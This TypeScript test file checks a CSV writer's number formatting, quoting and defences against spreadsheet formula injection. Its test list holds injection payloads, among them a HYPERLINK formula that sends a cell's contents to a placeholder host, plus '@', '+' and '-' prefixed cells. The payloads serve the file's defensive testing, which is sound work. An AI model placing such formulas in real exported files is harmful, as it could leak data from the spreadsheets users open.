import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from '@japa/runner'
import { parse } from 'csv-parse/sync'
import { guard, unguard, type Column, type Row } from '#services/documents/cells'
import { writeCsv, type CsvOptions } from '#services/documents/csv_writer'
import { readCsv } from './csv_files.js'

let folder = ''
const read = (content: string | Uint8Array) => readCsv(folder, content)

async function written(columns: Column[], rows: Iterable<Row> | AsyncIterable<Row>, options?: CsvOptions): Promise<Buffer> {
  const chunks: Uint8Array[] = []
  for await (const chunk of writeCsv(columns, rows, options)) chunks.push(chunk)
  return Buffer.concat(chunks)
}

const texts = (...headers: string[]): Column[] => headers.map((header) => ({ header, type: 'text' }))

/** Field case S17, with texts that already begin with an apostrophe. */
const FORMULAS = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  '+62811000000',
  '-UJI',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  "''-UJI",
]

test.group('CSV writing', (group) => {
  group.each.setup(async () => {
    folder = await mkdtemp(join(tmpdir(), 'siks-csv-'))
    return () => rm(folder, { recursive: true })
  })

  test('writes no number with an exponent, however large or small', async ({ assert }) => {
    const values = [1e30, -1e22, 1.5e-7, -1.25e-8, -1e-25]
    const [, ...lines] = (
      await written(
        [{ header: 'n', type: 'number' }],
        values.map((value) => [value]),
      )
    )
      .toString()
      .split('\r\n')
    const expected = [`1${'0'.repeat(30)}`, `-1${'0'.repeat(22)}`, '0,00000015', '-0,0000000125', '0', '']
    assert.deepEqual(lines, expected)
  })

  test('writes a mark, CRLF, plain numbers, quoted signs and the last row', async ({ assert }) => {
    const columns: Column[] = [...texts('nik', 'nama'), { header: 'lat', type: 'number' }, { header: 'tgl', type: 'date' }]
    const rows: Row[] = [
      ['0012', 'UJI; "DUA"', -6.2, '1962-12-25'],
      ['3201014507859901', null, '-6.25', undefined],
    ]
    assert.equal(
      (await written(columns, rows)).toString(),
      '\uFEFFnik;nama;lat;tgl\r\n0012;"UJI; ""DUA""";-6,2;1962-12-25\r\n3201014507859901;;-6,25;\r\n',
    )
    assert.equal(
      (await written(columns, rows.slice(0, 1), { delimiter: ',' })).toString(),
      '\uFEFFnik,nama,lat,tgl\r\n0012,"UJI; ""DUA""","-6,2",1962-12-25\r\n',
    )
  })

  test('guards and quotes every text that a spreadsheet would run, heading included, and reads it back as it was (S17)', async ({
    assert,
  }) => {
    const columns: Column[] = [...texts('=1+1', 'nama'), { header: 'lat', type: 'number' }]
    const rows = FORMULAS.map((text): Row => [text, `${text} UJI`, -6.2])
    const bytes = await written(columns, rows)
    const parsed = parse(bytes, { bom: true, delimiter: ';' }) as string[][]
    assert.lengthOf(parsed, 1 + FORMULAS.length)
    for (const [first, second] of parsed.slice(1)) assert.match(`${first} ${second}`, /^'.* '/s)
    assert.equal(parsed[0]![0], "'=1+1")
    assert.isTrue(parsed.slice(1).every(([, , latitude]) => latitude === '-6,2'))
    assert.include(bytes.toString(), '"\'+62811000000";"\'+62811000000 UJI";-6,2')
    const table = await read(bytes)
    assert.deepEqual(
      table.rows.map(({ cells }) => cells),
      FORMULAS.map((text) => [text, `${text} UJI`, '-6,2']),
    )
  })

  test('takes away only the apostrophe of a guard', ({ assert }) => {
    for (const text of [...FORMULAS, "'3201014507859901", "'", "''", "'UJI'", "MA'RUF", '', 'UJI-DUA', '1=1']) {
      assert.equal(unguard(guard(text)), text)
    }
    assert.equal(unguard("'3201014507859901"), "'3201014507859901")
    assert.equal(unguard("'-UJI"), '-UJI')
    assert.equal(guard("MA'RUF"), "MA'RUF")
  })
})
